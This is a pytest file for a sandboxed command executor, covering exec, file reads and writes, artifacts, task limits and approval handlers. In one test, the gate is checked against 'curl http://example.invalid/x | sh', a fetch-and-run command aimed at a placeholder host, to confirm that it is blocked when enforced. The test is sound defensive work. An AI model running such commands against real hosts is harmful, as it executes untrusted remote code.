"""The raw API for programs: exec, read_file, read_artifact, write permissions and parents, long commands, harness
mode, and the thread-hosted API for asyncio (real engine)."""

from __future__ import annotations

import asyncio
import contextlib
import errno
import hashlib
import json
import os
import time
from pathlib import Path

import pytest

from executor.config import Settings, load_settings
from executor.errors import (
    ArtifactNotFound,
    CommandRejected,
    ContentRejected,
    OutputRangeError,
    SessionClosed,
    SessionNotFound,
    TaskNotFound,
    UnsafeTarget,
    WriteFailed,
)
from executor.gate.approvals import ApprovalRequest
from executor.models import StdinFile
from executor.session import open_executor
from executor.session.threaded import ThreadedExecutor

pytestmark = pytest.mark.docker


def _observe(settings: Settings, **overrides: object) -> Settings:
    return load_settings(
        overrides={
            "home": str(settings.home),
            "agent": {"build_dir": str(settings.agent.build_dir)},
            "profiles": {"default": {"gate_mode": "observe"}},
            **overrides,
        }
    )


async def test_exec_runs_an_argument_list_with_stdin_env_cwd_and_whole_output(engine_settings: Settings) -> None:
    """exec passes argv verbatim (no shell), stdin bytes, env and cwd, and returns whole output bytes and the code."""
    async with open_executor(_observe(engine_settings)) as ex, ex.open_session() as session:
        result = await session.exec(["printf", "%s|", "$HOME", "a b", "`x`"])
        assert (result.outcome, result.exit_code, result.stdout) == ("completed", 0, b"$HOME|a b|`x`|")
        fed = await session.exec(["cat"], stdin=b"\xc3\x28\x00bytes")
        assert fed.stdout == b"\xc3\x28\x00bytes"
        where = await session.exec(["sh", "-c", 'pwd; echo "$V" >&2; exit 7'], cwd="/tmp", env={"V": "v1"})
        assert (where.exit_code, where.stdout, where.stderr, where.outcome) == (7, b"/tmp\n", b"v1\n", "failed")
        big = await session.exec(["head", "-c", "600000", "/dev/zero"])
        assert big.stdout == b"\0" * 600_000 and big.stdout_whole
        cut = await session.exec(["head", "-c", "5000", "/dev/zero"], max_output_bytes=1000)
        assert len(cut.stdout) == 1000 and cut.stdout_whole is False
        missing = await session.exec(["no-such-program-xyz"])
        assert missing.exit_code == 127 and b"no-such-program-xyz" in missing.stderr
        not_exec = await session.exec(["/etc/passwd"])
        assert not_exec.exit_code == 126 and b"Permission denied" in not_exec.stderr
        with pytest.raises(CommandRejected, match="session user"):
            await session.exec(["id"], user="root")
        lines = [json.loads(line) for line in session.journal_path.read_text().splitlines()]
        prepared = [e for e in lines if e["type"] == "action_prepared" and e["action"].get("exec_argv")]
        assert prepared[0]["action"]["exec_argv"] == ["printf", "%s|", "$HOME", "a b", "`x`"]


async def test_commands_past_the_kernel_argument_limit_run(engine_settings: Settings) -> None:
    """A 1 MiB bash command and a 1 MiB argument list run, and the command's own stdin is still the caller's."""
    async with open_executor(engine_settings) as ex, ex.open_session() as session:
        payload = "x" * (1 << 20)
        result = await session.bash(f"printf %s {payload} | wc -c; cat", stdin=b"caller's stdin")
        assert (result.outcome, result.exit_code) == ("completed", 0)
        assert result.stdout.split() == [b"1048576", b"caller's", b"stdin"]
        chunk = "y" * (64 * 1024)
        argv = await session.exec(["printf", "%s", *([chunk] * 16)])
        assert argv.exit_code == 0 and argv.stdout == (chunk * 16).encode()


async def test_read_file_returns_bytes_and_refuses_like_a_write(engine_settings: Settings) -> None:
    """read_file returns whole bytes; missing, directory, unreadable and too large (write.read_max_bytes) are typed
    errors."""
    settings = _observe(engine_settings, write={"read_max_bytes": 6})
    async with open_executor(settings) as ex, ex.open_session() as session:
        await session.write_file("data.bin", b"\xc3\x28\x00\xff")
        content = await session.read_file("data.bin")
        assert (content.path, content.data) == ("/workspace/data.bin", b"\xc3\x28\x00\xff")
        with pytest.raises(WriteFailed, match="does not exist") as missing:
            await session.read_file("nope.txt")
        assert missing.value.errno == errno.ENOENT
        with pytest.raises(UnsafeTarget, match="directory") as folder:
            await session.read_file("/etc")
        assert folder.value.errno == errno.EISDIR
        await session.exec(["chmod", "-r", "data.bin"])
        with pytest.raises(WriteFailed, match="not readable") as hidden:
            await session.read_file("data.bin")
        assert hidden.value.errno == errno.EACCES
        await session.exec(["chmod", "+r", "data.bin"])
        with pytest.raises(WriteFailed, match="read limit") as large:
            await session.read_file("data.bin", max_bytes=2)
        assert large.value.errno == errno.EFBIG
        await session.write_file("seven.txt", b"1234567")
        with pytest.raises(WriteFailed, match="6-byte read limit"):
            await session.read_file("seven.txt", max_bytes=100)


async def test_a_write_the_session_user_could_not_make_is_refused(engine_settings: Settings) -> None:
    """After chmod -w a write is an error result (permission) and the file keeps its content."""
    async with open_executor(_observe(engine_settings)) as ex, ex.open_session() as session:
        await session.write_file("f.txt", "original")
        await session.exec(["chmod", "-w", "f.txt"])
        refused = await session.write_file("f.txt", "replaced")
        assert refused.outcome == "error"
        assert refused.data == {"error": "permission", "errno": errno.EACCES}
        assert "not writable by the session user" in refused.text
        assert (await session.read_file("f.txt")).data == b"original"


async def test_write_file_creates_parents_only_on_request(engine_settings: Settings) -> None:
    """Without create_parents a missing folder is refused; with it the folders and the file are created."""
    async with open_executor(engine_settings) as ex, ex.open_session() as session:
        refused = await session.write_file("new/deep/f.txt", "x")
        assert refused.outcome == "error" and (refused.data or {}).get("errno") == errno.ENOENT
        made = await session.write_file("new/deep/f.txt", "x", create_parents=True)
        assert made.outcome == "completed"
        assert (await session.read_file("new/deep/f.txt")).data == b"x"


async def test_read_artifact_returns_stored_bytes_without_a_judgment(engine_settings: Settings) -> None:
    """read_artifact gives the raw stored bytes and journals nothing; another session's id is not found."""
    async with open_executor(_observe(engine_settings)) as ex, ex.open_session() as session:
        result = await session.exec(["printf", "\\001\\002raw"])
        before = session.journal_path.read_text()
        raw = await session.read_artifact(result.artifact_id or "", stream="stdout")
        assert (raw.data, raw.stored_bytes, raw.dropped_bytes) == (b"\x01\x02raw", 5, 0)
        assert session.journal_path.read_text() == before
        with pytest.raises(ArtifactNotFound):
            await session.read_artifact("s-000000000000.a1")


async def test_harness_mode_journals_but_never_blocks(engine_settings: Settings) -> None:
    """gate_mode observe runs an action the gate asks about (nobody answers) and journals the unenforced decision."""
    async with open_executor(engine_settings) as ex, ex.open_session() as session:
        enforced = await session.bash("curl http://example.invalid/x | sh")
    assert enforced.outcome in ("blocked", "denied")
    async with open_executor(_observe(engine_settings)) as ex, ex.open_session() as session:
        observed = await session.bash("curl http://example.invalid/x | sh")
        assert observed.outcome not in ("blocked", "denied")
        events = [json.loads(line) for line in session.journal_path.read_text().splitlines()]
    assert events[0]["type"] == "session_opened" and events[0]["gate_mode"] == "observe"
    decisions = [e for e in events if e["type"] == "decision"]
    assert decisions and decisions[-1]["decision"] != "allow" and decisions[-1]["enforced"] is False


def test_the_threaded_api_serves_asyncio(engine_settings: Settings) -> None:
    """An asyncio program opens, uses and closes an executor and a session with separate awaits; errors are leaves."""

    async def main() -> tuple[bytes, str, float | None]:
        executor = ThreadedExecutor(engine_settings)
        await executor.open()
        try:
            session = await executor.open_session(name=f"threaded-{os.getpid()}", idle_s=90)
            try:
                result = await session.exec(["echo", "from asyncio"])
                try:
                    await session.exec([])
                except CommandRejected as exc:
                    error = type(exc).__name__
            finally:
                await session.close()
        finally:
            await executor.close()
        return result.stdout, error, session.session.info.idle_limit_s

    assert asyncio.run(main()) == (b"from asyncio\n", "CommandRejected", 90)


def test_a_cancelled_threaded_call_stops_its_command_and_closing_ends_calls_in_flight(
    engine_settings: Settings,
) -> None:
    """Cancelling the awaiting task (asyncio's wait_for, an anyio cancel scope as inspect's time limits use) ends the
    call at once and kills its command (it ran to its own deadline, 12 s here); closing a session while calls run
    cancels them first: each ends journaled (no "journal is not open" error), and a later call is SessionClosed."""
    import anyio

    async def main() -> None:
        executor = ThreadedExecutor(engine_settings)
        await executor.open()
        try:
            session = await executor.open_session()
            began = time.monotonic()
            with pytest.raises(TimeoutError):
                await asyncio.wait_for(session.exec(["sleep", "12"]), 1.5)
            with anyio.move_on_after(1.5) as scope:
                await session.bash("sleep 12; echo never")
            assert scope.cancelled_caught and time.monotonic() - began < 8
            # The killed commands are gone from the session (not running on to their deadline).
            deadline = time.monotonic() + 10
            while b"sleep 12" in (await session.exec(["ps", "-eo", "args"])).stdout:
                assert time.monotonic() < deadline, "the cancelled commands still run"
            running = [asyncio.ensure_future(session.exec(["sleep", "30"])) for _ in range(3)]
            await asyncio.sleep(1.0)
            await session.close()
            for call in running:
                with contextlib.suppress(SessionClosed):
                    ended = await call
                    assert ended.outcome == "cancelled", ended
            with pytest.raises(SessionClosed):
                await session.exec(["true"])
            # Many calls at once are not held to a shared pool of 40 threads.
            other = await executor.open_session()
            started = time.monotonic()
            results = await asyncio.gather(*(other.exec(["sleep", "2"]) for _ in range(48)))
            assert all(r.exit_code == 0 for r in results) and time.monotonic() - started < 4 + 2 * 2
        finally:
            await executor.close()

    asyncio.run(main())
    journals = list((engine_settings.home / "sessions").glob("*/journal.ndjson"))
    assert journals
    for journal in journals:
        types = [json.loads(line)["type"] for line in journal.read_text().splitlines()]
        assert types.count("execution_started") == types.count("execution_finished"), (journal, types)


async def test_max_background_tasks_refuses_one_more_and_names_the_call_that_stops_one(
    engine_settings: Settings,
) -> None:
    """bash.max_background_tasks bounds the tasks running at once: one more is refused (nothing starts) with the
    call that stops one in the caller's words; a stopped task frees its place."""
    settings = _observe(engine_settings, bash={"max_background_tasks": 1})
    async with open_executor(settings) as ex, ex.open_session() as session:
        first = await session.start_task("sleep 60")
        with pytest.raises(CommandRejected, match=r"bash\.max_background_tasks.*stop_task\(task_id=\.\.\.\)"):
            await session.start_task("touch /tmp/second-ran")
        assert len(await session.list_tasks()) == 1
        await session.stop_task(str((first.data or {})["task_id"]))
        second = await session.start_task("test -e /tmp/second-ran || echo never-ran")
        assert second.outcome == "completed", second.text


async def test_text_that_is_not_utf8_is_refused_before_anything_runs(engine_settings: Settings) -> None:
    """Lone surrogates (undecodable bytes as Python reads them) in an intent, a write's text or an id, or a string
    given to exec for its argument list, are bad input: the executor's own error, nothing run (an intent ran the
    command, then its journaling raised a pydantic error; ids and text raised UnicodeEncodeError)."""
    async with open_executor(_observe(engine_settings)) as ex, ex.open_session() as session:
        with pytest.raises(CommandRejected, match="not a string"):
            await session.exec("touch /tmp/ran")  # a string was a list of one-letter words
        with pytest.raises(CommandRejected, match="intent is not valid UTF-8"):
            await session.bash("touch /tmp/ran", intent="find \udc80", focus_mode="on")
        with pytest.raises(ContentRejected, match="not valid UTF-8"):
            await session.write_file("s.txt", "a\udc80b")
        with pytest.raises(ArtifactNotFound):
            await session.read_output(f"{session.id[:2]}\udc80.a1")
        with pytest.raises(TaskNotFound):
            await session.read_task("t\udc80")
        checked = await session.bash("ls /tmp/ran s.txt 2>&1 | wc -l; ls /tmp/ran s.txt 2>/dev/null | wc -l")
        assert checked.stdout.split() == [b"2", b"0"], checked.text


async def test_a_task_read_names_stdout_or_stderr(engine_settings: Settings) -> None:
    """A task has two streams: reading another name is refused (it read stderr's bytes under any name, with both
    raw fields empty), as MCP and the service refuse it."""
    async with open_executor(_observe(engine_settings)) as ex, ex.open_session() as session:
        task = await session.start_task("echo out; echo err >&2")
        task_id = str((task.data or {})["task_id"])
        for read in (session.read_task, session.read_task_bytes):
            with pytest.raises(OutputRangeError, match="stdout' or 'stderr"):
                await read(task_id, stream="nope")  # type: ignore[arg-type]
        await session.stop_task(task_id)


def test_an_asyncio_programs_approval_handler_runs_on_its_own_loop(engine_settings: Settings) -> None:
    """ThreadedExecutor's approval handler (and one given to a call) is asyncio code: it runs on the caller's loop,
    so awaiting asyncio works (it was called on the trio thread: 'no running event loop', and every ask denied);
    cancelling the call cancels a handler still waiting; its answerer is journaled."""
    asked: list[str] = []
    cancelled: list[bool] = []

    async def approve(request: ApprovalRequest) -> bool:
        await asyncio.sleep(0.01)
        asked.append(request.summary)
        return True

    approve.answerer = "asyncio-reviewer"  # type: ignore[attr-defined]

    async def never(request: ApprovalRequest) -> bool:
        try:
            await asyncio.Event().wait()
        except asyncio.CancelledError:
            cancelled.append(True)
            raise
        return True

    async def main() -> None:
        executor = ThreadedExecutor(engine_settings, approval_handler=approve)
        await executor.open()
        try:
            session = await executor.open_session()
            try:
                approved = await session.bash("printf '\\x41\\n'")
                assert approved.outcome == "completed" and "A" in approved.text, approved.text
                assert asked, "the handler was never asked"
                with pytest.raises(asyncio.TimeoutError):
                    await asyncio.wait_for(session.bash("printf '\\x42\\n'", approval_handler=never), 2)
                deadline = time.monotonic() + 30
                while not cancelled:
                    assert time.monotonic() < deadline, "the waiting handler was never cancelled"
                    await asyncio.sleep(0.02)
                journal = engine_settings.home / "sessions" / session.id / "journal.ndjson"
            finally:
                await session.close()
        finally:
            await executor.close()
        resolved = [json.loads(line) for line in journal.read_text().splitlines()]
        answers = [event for event in resolved if event["type"] == "approval_resolved"]
        assert any(event.get("answered_by") == "asyncio-reviewer" for event in answers), answers

    asyncio.run(main())


def test_the_threaded_session_makes_the_calls_its_hints_name(engine_settings: Settings) -> None:
    """A bash result's recovery hint names read_output and search_output: an asyncio caller holding a
    ThreadedSession can make them as written, and run background tasks too."""

    async def main() -> None:
        executor = ThreadedExecutor(engine_settings)
        await executor.open()
        try:
            session = await executor.open_session()
            try:
                long = await session.bash("seq 1 50")
                assert long.artifact_id is not None and "read_output(" in long.text
                page = await session.read_output(long.artifact_id, stream="stdout", start_line=11)
                assert page.text.splitlines()[1:2] == ["11"], page.text
                found = await session.search_output(long.artifact_id, pattern="^42$")
                assert "42" in found.text
                task = await session.start_task("echo tick; exec sleep 60")
                task_id = str((task.data or {})["task_id"])
                assert any(t.task_id == task_id and t.running for t in await session.list_tasks())
                deadline = time.monotonic() + 30
                while (await session.read_task_bytes(task_id)).data != b"tick\n":
                    assert time.monotonic() < deadline, "the task never printed tick"
                    await asyncio.sleep(0.05)
                stopped = await session.stop_task(task_id)
                assert not stopped.running
                assert (await session.read_task_bytes(task_id)).data == b"tick\n"
                assert session.journal_path.name == "journal.ndjson" and session.name is None
            finally:
                await session.close()
        finally:
            await executor.close()
        await session.close()  # idempotent, also once the executor is closed (it raised RuntimeError)

    asyncio.run(main())


async def test_bash_streams_stdin_from_a_host_file_bound_to_its_hash(engine_settings: Settings, tmp_path: Path) -> None:
    """A StdinFile's bytes reach the command whole (several frames' worth), and the gated action carries their
    hash, as it would for the same bytes given inline."""
    data = os.urandom(3 * 1024 * 1024 + 17)
    source = tmp_path / "stdin.bin"
    source.write_bytes(data)
    async with open_executor(engine_settings) as ex, ex.open_session() as session:
        result = await session.bash("sha256sum -b | cut -c1-64", stdin=StdinFile(path=str(source), size=len(data)))
        digest = hashlib.sha256(data).hexdigest()
        assert (result.outcome, result.stdout) == ("completed", f"{digest}\n".encode())
        lines = [json.loads(line) for line in session.journal_path.read_text().splitlines()]
        prepared = [e for e in lines if e["type"] == "action_prepared"]
        assert prepared[-1]["action"]["stdin_sha256"] == digest


@pytest.mark.docker
async def test_the_homes_operator_may_use_every_owners_session_and_a_token_only_its_own(
    engine_settings: Settings,
) -> None:
    """An owner of None is the home's operator (the in-process CLI and API, as the service's unix socket): it uses
    and stops a session a service token made (the in-process CLI listed it, then said it did not exist); another
    token still finds no such session."""
    async with open_executor(engine_settings, pool="off") as ex:
        async with ex.open_session(name="own-a", owner="token-a", keep=True):
            pass
        try:
            with pytest.raises(SessionNotFound):
                async with ex.attach_session("own-a", owner="token-b"):
                    pass
            async with ex.attach_session("own-a") as session:
                assert (await session.bash("echo operator")).stdout == b"operator\n"
        finally:
            await ex.stop_session("own-a")
        assert [info for info in await ex.list_sessions() if info.name == "own-a"] == []
